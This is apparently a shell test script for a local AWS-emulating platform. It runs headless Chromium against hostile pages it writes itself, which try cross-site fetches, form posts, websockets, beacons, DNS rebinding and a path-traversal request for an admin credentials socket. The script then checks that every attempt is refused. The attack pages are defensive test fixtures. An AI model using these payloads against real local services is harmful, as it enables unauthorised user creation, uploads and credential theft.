#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Hostile pages in a real browser: what a page of another site, or of a name that was rebound to the
# platform's address, sends to the platform gets nothing and changes nothing.
#   test/browser.sh
# Each check prints `ok NAME` or `FAILED NAME`. Where there is no Chromium, `not run: browser: ...`.
# Every request goes through a tap (test/browser.py), which shows that it did reach the platform.
# shellcheck disable=SC2034 # lib.sh reads some of these
set -u

repo=$(CDPATH='' cd -- "$(dirname -- "$0")/.." && pwd -P)
work=$(mktemp -d)
data=$work/data
script=browser
. "$repo/test/lib.sh"
cd "$repo" || exit 1

browser=
for name in chromium chromium-browser google-chrome chrome; do
  [ -n "$browser" ] || browser=$(command -v "$name") || browser=
done
for tool in "${browser:-chromium}" python3 curl; do
  command -v "$tool" >/dev/null 2>&1 || {
    echo "not run: browser: hostile pages in a real browser: there is no $tool (on Debian: apt install $tool)"
    rm -rf "$work"
    exit 0
  }
done

port=$(free_port) site=$(free_port) tap=$(free_port)
DOCKER_HOST=unix://$work/no-engine.sock # none is needed, and none is touched
XDG_CONFIG_HOME=$work/config
export DOCKER_HOST XDG_CONFIG_HOME
pages=$work/pages
mkdir -p "$pages"

over() {
  for process in ${chrome:-} ${hostile:-}; do
    kill "$process" 2>/dev/null
  done
  timeout 60 ./holdfast down --stop-tasks --data-dir "$data" >/dev/null 2>&1
  rm -rf "$work"
}
trap over EXIT

must "up" ./holdfast up --detach --data-dir "$data" --port "$port"
./holdfast env --data-dir "$data" >"$work/env" 2>/dev/null || exit 1
lines=$(cat "$work/env")
eval "$lines"

# signed SERVICE CURL-OPTION...: prints the answer's body and then its status.
signed() {
  service=$1
  shift
  printf 'user = "%s:%s"\nheader = "x-amz-security-token: %s"\n' \
    "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" "${AWS_SESSION_TOKEN:-}" |
    curl --silent --config - --aws-sigv4 "aws:amz:us-east-1:$service" --max-time 30 \
      --write-out '\n%{http_code}\n' "$@"
}
ecr() {
  target=$1
  shift
  signed ecr --header 'content-type: application/x-amz-json-1.1' \
    --header "x-amz-target: AmazonEC2ContainerRegistry_V20150921.$target" "$@" "http://127.0.0.1:$port/"
}
must "a repository" ecr CreateRepository --data '{"repositoryName":"shop/web"}'
token=$(ecr GetAuthorizationToken --data '{}' | sed -n 's/.*"authorizationToken":"\([^"]*\)".*/\1/p' | base64 -d)
token=${token#AWS:}

python3 test/browser.py "$site" "$tap" "$port" "$pages" &
hostile=$!
must "the hostile site" soon test -f "$pages/ready"

# --- the pages ---
printf 'nothing' >"$pages/empty.html"
blob=sha256:$(printf 'stolen=1' | sha256sum | cut -d ' ' -f 1)
# What the operator did before: they looked at the registry and gave the browser their password.
cat >"$pages/operator.html" <<END
<script>
window.open("http://AWS:$token@127.0.0.1:$tap/v2/");
setTimeout(() => { location = "http://evil.test:$site/hostile.html"; }, 3000);
</script>
END
# A page of another site. Each attack says what it got; `nothing` is what it must be.
cat >"$pages/hostile.html" <<END
<body><script>
const at = "http://127.0.0.1:$tap";
const form = "application/x-www-form-urlencoded";
const create = "Action=CreateUser&Version=2010-05-08&UserName=hostile";
const got = {};
async function reads(name, url, options) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    got[name] = answer.type === "opaque" && text === "" ? "nothing" : "read " + answer.status + " " + text;
  } catch (e) {
    got[name] = "nothing";
  }
}
function loads(name, tag, url) {
  return new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => { got[name] = "loaded"; done(); };
    element.onerror = () => { got[name] = "nothing"; done(); };
    element[tag === "link" ? "href" : "src"] = url;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
    setTimeout(done, 4000);
  });
}
function frame(name) {
  const element = document.createElement("iframe");
  element.name = name;
  document.body.append(element);
  return element;
}
function posts(name, path, type, fields) {
  return new Promise(done => {
    const element = frame(name);
    const sent = document.createElement("form");
    sent.method = "POST"; sent.action = at + path; sent.enctype = type; sent.target = name;
    for (const [key, value] of fields) {
      const input = document.createElement("input");
      input.name = key; input.value = value;
      sent.append(input);
    }
    document.body.append(sent);
    element.onload = () => {
      try { got[name] = "read " + element.contentDocument.body.innerText; } catch (e) { got[name] = "nothing"; }
      if (got[name] === "read ") got[name] = "nothing";
    };
    sent.submit();
    setTimeout(done, 1500);
  });
}
function opens(name, make) {
  return new Promise(done => {
    try {
      const made = make();
      made.onopen = () => { got[name] = "opened"; done(); };
      made.onmessage = () => { got[name] = "read"; done(); };
      made.onerror = () => { got[name] = got[name] || "nothing"; done(); };
      setTimeout(done, 4000);
    } catch (e) { got[name] = "nothing"; done(); }
  });
}
(async () => {
  const text = { "Content-Type": "text/plain" };
  await reads("health", at + "/_holdfast/health");
  await reads("health-no-cors", at + "/_holdfast/health", { mode: "no-cors" });
  await reads("health-localhost", "http://localhost:$tap/_holdfast/health", { mode: "no-cors" });
  await reads("identity", at + "/?Action=GetCallerIdentity&Version=2011-06-15", { mode: "no-cors", credentials: "include" });
  await reads("form-no-cors", at + "/", { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": form }, body: create });
  await reads("text-json", at + "/", { method: "POST", mode: "no-cors", headers: text, body: '{"repositoryName":"hostile"}' });
  await reads("target", at + "/", { method: "POST", headers: { "X-Amz-Target": "AmazonEC2ContainerRegistry_V20150921.CreateRepository" }, body: '{"repositoryName":"hostile"}' });
  await reads("registry", at + "/v2/shop/web/tags/list", { mode: "no-cors", credentials: "include" });
  await reads("registry-cors", at + "/v2/shop/web/tags/list", { credentials: "include" });
  await reads("blob", at + "/v2/shop/web/blobs/uploads/?digest=$blob", { method: "POST", mode: "no-cors", credentials: "include", headers: text, body: "stolen=1" });
  await reads("upload", at + "/v2/shop/web/blobs/uploads/", { method: "POST", mode: "no-cors", credentials: "include" });
  await reads("manifest", at + "/v2/shop/web/manifests/hostile", { method: "PUT", credentials: "include", body: "{}" });
  await reads("delete", at + "/v2/shop/web/manifests/x", { method: "DELETE", credentials: "include" });
  await loads("script", "script", at + "/_holdfast/health?script");
  await loads("image", "img", at + "/_holdfast/health?image");
  await loads("style", "link", at + "/_holdfast/health?style");
  await posts("form", "/", form, create.split("&").map(p => p.split("=")));
  await posts("multipart", "/", "multipart/form-data", create.split("&").map(p => p.split("=")));
  await posts("form-text", "/", "text/plain", [['{"repositoryName":"hostile","x":"', '"}']]);
  await posts("form-blob", "/v2/shop/web/blobs/uploads/?digest=$blob&form", form, [["stolen", "1"]]);
  await opens("websocket", () => new WebSocket("ws://127.0.0.1:$tap/acs/ws?containerInstanceArn=x"));
  await opens("websocket-host", () => new WebSocket("ws://127.0.0.1:$tap/acs/host"));
  await opens("events", () => new EventSource(at + "/_holdfast/health?events"));
  got.beacon = navigator.sendBeacon(at + "/?beacon", new Blob([create], { type: form })) ? "nothing" : "not sent";
  await new Promise(done => setTimeout(done, 500));
  for (const [name, what] of Object.entries(got)) {
    await fetch("/report?" + encodeURIComponent(name + " " + what.replace(/\s+/g, " ").slice(0, 200)));
  }
  location = "http://evil.test:$port/rebound.html";
})();
</script></body>
END
# The same name, rebound to the platform's address: to the browser all of it is one site, so that the
# page may read what it gets.
cat >"$pages/rebound.html" <<END
<body><script>
(async () => {
  const form = { "Content-Type": "application/x-www-form-urlencoded" };
  const attacks = {
    "rebound-health": ["/_holdfast/health"],
    "rebound-identity": ["/?Action=GetCallerIdentity&Version=2011-06-15"],
    "rebound-create": ["/", { method: "POST", headers: form, body: "Action=CreateUser&Version=2010-05-08&UserName=hostile" }],
    "rebound-target": ["/", { method: "POST", headers: { "X-Amz-Target": "AmazonEC2ContainerRegistry_V20150921.CreateRepository" }, body: '{"repositoryName":"hostile"}' }],
    "rebound-registry": ["/v2/shop/web/tags/list", { credentials: "include" }],
    "rebound-upload": ["/v2/shop/web/blobs/uploads/", { method: "POST", credentials: "include" }],
    "rebound-admin": ["/credentials"],
    "rebound-admin-path": ["/%2e%2e/run/admin.sock/credentials"],
  };
  for (const [name, [path, options]] of Object.entries(attacks)) {
    let what;
    try {
      // A password that is asked for is asked of nobody: then nothing comes.
      const answer = await fetch(path, { signal: AbortSignal.timeout(3000), ...options });
      what = answer.status + " " + (await answer.text());
    } catch (e) { what = "nothing"; }
    await fetch("/report?" + encodeURIComponent(name + " " + what.replace(/\s+/g, " ").slice(0, 300)));
  }
  await fetch("/report?done");
})();
</script></body>
END

# --- before ---
state() {
  signed iam --data 'Action=ListUsers&Version=2010-05-08' "http://127.0.0.1:$port/" | sed 's/<RequestId>.*//'
  ecr DescribeRepositories --data '{}'
  curl --silent --user "AWS:$token" "http://127.0.0.1:$port/v2/shop/web/tags/list"
  find "$data/blobs" -type f | sort
}
state >"$work/before"

# --- the browser ---
# Its sandbox does not work for root; what it is kept from here is this machine's own tests.
if [ "$(id -u)" = 0 ]; then sandbox=--no-sandbox; else sandbox=--disable-gpu; fi
"$browser" --headless "$sandbox" --disable-gpu --no-first-run --disable-popup-blocking \
  --user-data-dir="$work/profile" --host-resolver-rules="MAP evil.test:$port 127.0.0.2, MAP evil.test 127.0.0.1" \
  "http://127.0.0.1:$tap/operator.html" >"$work/chrome.log" 2>&1 &
chrome=$!
ended() {
  grep -qx 'done' "$pages/report"
}
check "the pages ran to their end in $("$browser" --version 2>/dev/null)" soon ended || {
  tail -n 20 "$work/chrome.log" "$pages/report" "$pages/faults" 2>/dev/null
}
kill "$chrome" 2>/dev/null
chrome=
state >"$work/after"

# --- what they got ---
# got NAME: what the page reports of that attack.
got() {
  sed -n "s/^$1 //p" "$pages/report" | tail -n 1
}
# reached METHOD TARGET STATUS [MORE]: the request came to the platform, with this answer.
reached() {
  grep -Eq -- "^$1 $2 .*$4.*status=$3\$" "$pages/seen" || {
    grep -F -- "$1 " "$pages/seen"
    return 1
  }
}
check "the browser has the registry's password" reached GET /v2/ 200 'site=same-origin authorized=yes'
if grep -q 'site=cross-site authorized=yes' "$pages/seen"; then
  echo "browser: and sends it along with requests of pages of other sites"
else
  echo "browser: and keeps it from pages of other sites"
fi
attack() {
  check "$1: the page got nothing" same "$(got "$1")" nothing
  check "$1: the platform was asked, and refused" reached "$2" "$3" "$4" "${5:-}"
}
other='origin=http://evil.test:[0-9]+ site=cross-site'
cross='site=cross-site'
attack health GET /_holdfast/health 403 "$other"
attack health-no-cors GET /_holdfast/health 403 "origin=- $cross"
attack health-localhost GET /_holdfast/health 403 "$cross"
attack identity GET '/\?Action=GetCallerIdentity&Version=2011-06-15' 403 "$cross"
attack form-no-cors POST / 403 "$other"
attack text-json POST / 403 "$other"
attack target OPTIONS / 403 "$other"
attack registry GET /v2/shop/web/tags/list 403 "origin=- $cross"
attack registry-cors GET /v2/shop/web/tags/list 403 "$other"
attack blob POST "/v2/shop/web/blobs/uploads/\\?digest=$blob" 403 "$other"
attack upload POST /v2/shop/web/blobs/uploads/ 403 "$other"
attack manifest OPTIONS /v2/shop/web/manifests/hostile 403 "$other"
attack delete OPTIONS /v2/shop/web/manifests/x 403 "$other"
attack script GET '/_holdfast/health\?script' 403 "$cross"
attack image GET '/_holdfast/health\?image' 403 "$cross"
attack style GET '/_holdfast/health\?style' 403 "$cross"
attack form POST / 403 "$other"
attack multipart POST / 403 "$other"
attack form-text POST / 403 "$other"
attack form-blob POST "/v2/shop/web/blobs/uploads/\\?digest=$blob&form" 403 "$other"
attack websocket GET '/acs/ws\?containerInstanceArn=x' 403 'origin=http://evil.test:[0-9]+'
attack websocket-host GET /acs/host 403 'origin=http://evil.test:[0-9]+'
attack events GET '/_holdfast/health\?events' 403 "$other"
attack beacon POST '/\?beacon' 403 "$other"

# --- what a rebound name got: it reads the refusals, which say nothing ---
rebound() {
  case $(got "$1") in
    nothing | "$2 "*) ! grep -Eq 'arn:aws|AKIA|ASIA|"tags"|shop' "$work/said" ;;
    *)
      got "$1"
      return 1
      ;;
  esac
}
grep '^rebound' "$pages/report" >"$work/said" 2>/dev/null
check "rebound: health" rebound rebound-health 403
check "rebound: an identity" rebound rebound-identity 403
check "rebound: a call" rebound rebound-create 403
check "rebound: a call with a target" rebound rebound-target 403
check "rebound: the registry, which asks for a password" rebound rebound-registry 401
check "rebound: an upload" rebound rebound-upload 403
check "rebound: the admin socket" rebound rebound-admin 404
check "rebound: the admin socket by its path" rebound rebound-admin-path 404
check "rebound: the platform was asked under that name" reached GET /_holdfast/health 403 "host=evil.test:$port"

# --- nothing changed ---
check "users, repositories, tags and blobs are what they were" cmp "$work/before" "$work/after"

# --- and the same requests, without a page of another site behind them, are served ---
answers() {
  status=$1
  shift
  same "$(curl --silent --max-time 10 --output /dev/null --write-out '%{http_code}' "$@")" "$status"
}
check "health answers a program" answers 200 "http://127.0.0.1:$tap/_holdfast/health"
check "and a browser whose user typed the address" answers 200 --header 'Sec-Fetch-Site: none' \
  "http://127.0.0.1:$tap/_holdfast/health"
check "the registry answers who has the password" answers 200 --user "AWS:$token" \
  "http://127.0.0.1:$tap/v2/shop/web/tags/list"
check "and takes the blob" answers 201 --user "AWS:$token" --header 'content-type: text/plain' --data 'stolen=1' \
  "http://127.0.0.1:$tap/v2/shop/web/blobs/uploads/?digest=$blob"
served() {
  signed iam --data "$1" "http://127.0.0.1:$port/" >"$work/said"
  same "$(tail -n 1 "$work/said")" 200
}
check "the call makes a user, when it is signed" served 'Action=CreateUser&Version=2010-05-08&UserName=hostile'
state >"$work/changed"
check "and then the state is another" refused 'hostile|differ' cmp "$work/before" "$work/changed"
[ -z "${BROWSER_SEEN:-}" ] || cp "$pages/seen" "$BROWSER_SEEN"
echo "end of browser"
